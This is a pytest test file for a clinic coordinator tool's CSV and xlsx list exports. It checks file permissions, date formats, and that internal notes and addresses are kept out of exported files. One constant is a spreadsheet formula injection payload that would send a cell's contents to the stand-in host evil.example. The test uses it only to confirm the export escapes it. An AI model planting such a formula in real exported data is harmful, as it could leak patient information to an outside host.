"""``coordinator-tui list KIND --format csv|xlsx [--out FILE]``: each list the command line has, written owner-only
as CSV (BOM, DD/MM/YYYY) or xlsx (read back with openpyxl); cells a spreadsheet would run are escaped; internal
notes never in a file; the export folder of the settings when --out is not given; usage errors in one line."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import stat
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from coordinator_tui.db import Database
from coordinator_tui.models import Patient, TransitionItem, TransitionStatus
from tests.cli_helpers import cli, one_line
from tests.export_data import SECRET_MARKERS, Seed, seed_clinic
from tests.postgres_server import both_databases

pytestmark = both_databases

INTERNAL = [SECRET_MARKERS[k] for k in ("patient_internal", "attendance_internal", "appointment_internal")]
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


@pytest.fixture
def seed(db: Database) -> Seed:
    with db.session() as session:
        seeded = seed_clinic(session)
        for title, due, owner, category, status in (
            ("Year 9 transition plan started", dt.date(2026, 10, 1), "specialist nurse", "health", "todo"),
            ("PIP claim started", dt.date(2026, 12, 10), "family support worker", "benefits", "in_progress"),
            ("Adult clinic met", dt.date(2027, 2, 1), "specialist nurse", "health", "todo"),
            ("Done long ago", dt.date(2026, 9, 1), "specialist nurse", "health", "done"),
        ):
            session.add(
                TransitionItem(
                    patient_id=seeded.patient_id,
                    rule_id=title.lower().replace(" ", "_"),
                    title=title,
                    category=category,
                    owner_role=owner,
                    due_date=due,
                    appears_on=due - dt.timedelta(days=200),
                    status=TransitionStatus(status),
                    note=SECRET_MARKERS["patient_internal"],
                )
            )
    return seeded


def read_csv(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf"), "no byte order mark: Excel would misread the accents"
    text = data.decode("utf-8-sig")
    for marker in INTERNAL:
        assert marker not in text
    return list(csv.reader(io.StringIO(text, newline="")))


def owner_only(path: Path) -> None:
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def written(out: str, path: Path) -> None:
    assert out.startswith(f"{path}  "), out


@pytest.mark.parametrize(
    ("kind", "headers"),
    [
        ("patients", ["id", "name", "NHS number", "hospital no.", "date of birth", "school"]),
        ("professionals", ["id", "name", "discipline", "organisation", "phone", "email"]),
        ("clinics", ["id", "name", "first day", "last day", "venue", "status"]),
        ("appointments", ["id", "clinic", "when", "until", "patient", "discipline", "with", "room", "status"]),
    ],
)
def test_each_record_list_as_csv(
    seed: Seed, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str, headers: list[str]
) -> None:
    path = tmp_path / f"{kind}.csv"
    code, out, err = cli(capsys, "list", kind, "--format", "csv", "--out", str(path), "--db", db_url)
    assert (code, err) == (0, ""), err
    written(out, path)
    owner_only(path)
    rows = read_csv(path)
    assert rows[0] == headers
    # The same rows as the printed table, with the same text
    code, printed, _ = cli(capsys, "list", kind, "--db", db_url)
    assert code == 0 and printed.strip().endswith(f"({len(rows) - 1} {kind})")
    if kind == "patients":
        born = next(r[4] for r in rows if r[1] == "Testperson, Ava")
        assert dt.datetime.strptime(born, "%d/%m/%Y")  # DD/MM/YYYY
    if kind == "clinics":
        assert rows[1][1:4] == ["Combined clinic", "29/03/2027", "30/03/2027"]
    if kind == "appointments":
        first = next(r for r in rows if r[5] == "Ophthalmology" and r[4] == "Ava Testperson")
        assert first[2:4] == ["29/03/2027 09:30", "10:15"]  # local wall-clock time (BST from 28/03/2027)


def test_caseload_with_its_filters(seed: Seed, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "caseload.csv"
    code, out, err = cli(capsys, "list", "caseload", "--out", str(path), "--db", db_url)
    assert (code, err) == (0, ""), err
    written(out, path)
    rows = read_csv(path)
    assert rows[0] == ["Flag", "Due", "Patient", "Hospital no.", "Item", "Owner", "Category", "Status"]
    assert [r[4] for r in rows[1:]] == ["Year 9 transition plan started", "PIP claim started", "Adult clinic met"]
    assert rows[1][:3] == ["OVERDUE", "01/10/2026", "Ava Testperson"]
    assert rows[2][7] == "in progress"
    path = tmp_path / "nurse.xlsx"
    code, out, err = cli(capsys, "list", "caseload", "--owner", "Specialist Nurse", "--out", str(path), "--db", db_url)
    assert (code, err) == (0, ""), err
    owner_only(path)
    sheet = load_workbook(path).worksheets[0]
    assert sheet.title == "Caseload (owner specialist nurs"  # the filter in the title, cut to 31 characters
    values = list(sheet.iter_rows(values_only=True))
    assert [v[4] for v in values[1:]] == ["Year 9 transition plan started", "Adult clinic met"]
    assert values[1][1] == dt.datetime(2026, 10, 1) and sheet["B2"].number_format == "DD/MM/YYYY"


def test_whos_coming_with_travel_and_hotel(
    seed: Seed, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "coming.csv"
    code, out, err = cli(capsys, "list", "coming", "--clinic", str(seed.clinic_id), "--out", str(path), "--db", db_url)
    assert (code, err) == (0, ""), err
    written(out, path)
    rows = read_csv(path)
    header = rows[0]
    ava = dict(zip(header, next(r for r in rows if r[0] == "Testperson, Ava"), strict=True))
    assert ava["Status"] == "✓ confirmed"
    assert (ava["Travel out"], ava["Departs"], ava["Arrives"], ava["Travel out ref."]) == (
        "train",
        "29/03/2027 06:45",
        "29/03/2027 09:05",
        "TRN-OUT-1",
    )
    assert (ava["Leaves"], ava["Home by"]) == ("30/03/2027 14:30", "30/03/2027 17:00")
    assert (ava["Hotel"], ava["Check-in"], ava["Nights"], ava["Hotel ref."]) == (
        "Fictional Lodge",
        "29/03/2027",
        "1",
        "HTL-42",
    )
    assert ava["Still to book"] == ""
    declined = next(r for r in rows if r[0] == "Declined, Dora")
    assert declined[1] == "✗ declined"
    other = dict(zip(header, next(r for r in rows if r[0].startswith("Otherfamily")), strict=True))
    assert other["Still to book"] == "travel"
    text = path.read_text(encoding="utf-8-sig")
    assert "Please bring the red book." not in text and "1 Imaginary Road" not in text  # instructions, address


def test_a_clinic_days_timetable_as_xlsx(
    seed: Seed, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "day1.xlsx"
    code, out, err = cli(
        capsys, "list", "timetable", "--clinic", str(seed.clinic_id), "--day", "1", "--out", str(path), "--db", db_url
    )
    assert (code, err) == (0, ""), err
    owner_only(path)
    rows = list(load_workbook(path).worksheets[0].iter_rows(values_only=True))
    assert rows[0] == (
        "Date",
        "Start",
        "End",
        "Patient",
        "Hospital no.",
        "Discipline",
        "With",
        "Room",
        "Status",
        "Clash",
    )
    disciplines = [r[5] for r in rows[1:]]
    # Day 1 as the grid shows it: not the cancelled physiotherapy, not day 2's appointments
    assert disciplines == ["Ophthalmology", "Audiology", "Ophthalmology", "Cardiology", "Dietetics", "Psychology"]
    assert rows[1][0] == dt.datetime(2027, 3, 29) and rows[1][1] == dt.time(9, 30) and rows[1][2] == dt.time(10, 15)
    sheet_xml = xlsx_text(path)
    for marker in INTERNAL:
        assert marker not in sheet_xml
    code, out, err = cli(
        capsys, "list", "timetable", "--clinic", str(seed.clinic_id), "--day", "30/03/2027", "--db", db_url
    )
    assert code == 0 and "Endocrinology" in out and "Ophthalmology" not in out


def xlsx_text(path: Path) -> str:
    """Every XML part of an xlsx file as one text (to look for what must not be there)."""
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(name).decode("utf-8") for name in archive.namelist())


def test_a_hostile_name_is_escaped_in_csv_and_a_string_in_xlsx(
    db: Database, seed: Seed, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with db.session() as session:
        patient = session.get(Patient, seed.patient_id)
        assert patient is not None
        patient.family_name = HOSTILE_NAME
        session.add(patient)
    path = tmp_path / "coming.csv"
    assert cli(capsys, "list", "coming", "--clinic", str(seed.clinic_id), "--out", str(path), "--db", db_url)[0] == 0
    names = [r[0] for r in read_csv(path)[1:]]
    assert f"'{HOSTILE_NAME}, Ava" in names
    xlsx = tmp_path / "coming.xlsx"
    assert cli(capsys, "list", "coming", "--clinic", str(seed.clinic_id), "--out", str(xlsx), "--db", db_url)[0] == 0
    sheet = load_workbook(xlsx).worksheets[0]
    cell = next(c for c in sheet["A"] if c.value and str(c.value).startswith("=HYPERLINK"))
    assert cell.data_type == "s"
    assert "<f>" not in xlsx_text(xlsx)


def test_without_out_the_list_goes_to_the_export_folder(
    seed: Seed, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "team exports"
    settings = tmp_path / "settings.toml"
    settings.write_text(f'export_dir = "{folder}"\n', encoding="utf-8")
    monkeypatch.setenv("COORDINATOR_SETTINGS", str(settings))
    code, out, err = cli(
        capsys, "list", "timetable", "--clinic", str(seed.clinic_id), "--format", "xlsx", "--db", db_url
    )
    assert (code, err) == (0, ""), err
    path = folder / f"2027-03-29_clinic-{seed.clinic_id}_timetable.xlsx"  # no person's name in it
    written(out, path)
    owner_only(path)
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700


def test_usage_errors_are_one_line(seed: Seed, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for argv, expected in (
        (["coming"], "list coming needs --clinic CLINIC_ID"),
        (["patients", "--clinic", "1"], "--clinic is only for list coming and list timetable"),
        (["caseload", "--out", str(tmp_path / "x.txt")], "--out FILE must end in .csv or .xlsx"),
        (["caseload", "--format", "xlsx", "--out", str(tmp_path / "x.csv")], "--out ends in .csv but --format is xlsx"),
        (["caseload", "--owner", "nobody"], "--owner must be one of"),
        (["timetable", "--clinic", str(seed.clinic_id), "--day", "tomorrow"], "--day must be the day's number"),
    ):
        code, out, err = cli(capsys, "list", *argv, "--db", db_url)
        assert code == 2 and out == "", argv
        assert expected in err.strip().splitlines()[-1], err
    code, out, err = cli(capsys, "list", "timetable", "--clinic", str(seed.clinic_id), "--day", "3", "--db", db_url)
    assert code == 2 and "the clinic has 2 days: day 3 is not one" in one_line(err)
    assert not list(tmp_path.glob("x.*"))


def test_an_unwritable_place_is_one_line(
    seed: Seed, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    in_the_way = tmp_path / "a-file"
    in_the_way.write_text("x")
    code, out, err = cli(
        capsys,
        "list",
        "coming",
        "--clinic",
        str(seed.clinic_id),
        "--out",
        str(in_the_way / "coming.csv"),
        "--db",
        db_url,
    )
    assert code == 1 and out == ""
    line = one_line(err)
    assert "Testperson" not in line and f"{in_the_way}: it is not a folder" in line
    code, out, err = cli(capsys, "list", "coming", "--clinic", "999", "--format", "csv", "--db", db_url)
    assert code == 1 and "999" in one_line(err)


def test_the_new_lists_print_as_tables_and_json(seed: Seed, db_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = cli(capsys, "list", "coming", "--clinic", str(seed.clinic_id), "--db", db_url)
    assert (code, err) == (0, "")
    assert out.splitlines()[0].startswith("Patient ") and "Fictional Lodge" in out
    assert out.rstrip().endswith("(Who's coming: Combined clinic: 3 rows)")
    code, out, err = cli(capsys, "list", "caseload", "--category", "benefits", "--json", "--db", db_url)
    assert (code, err) == (0, "")
    [line] = out.splitlines()
    assert json.loads(line) == {
        "Flag": "due within 30 days",
        "Due": "2026-12-10",
        "Patient": "Ava Testperson",
        "Hospital no.": SECRET_MARKERS["hospital_number"],
        "Item": "PIP claim started",
        "Owner": "family support worker",
        "Category": "benefits",
        "Status": "in progress",
    }
    for marker in INTERNAL:
        assert marker not in out
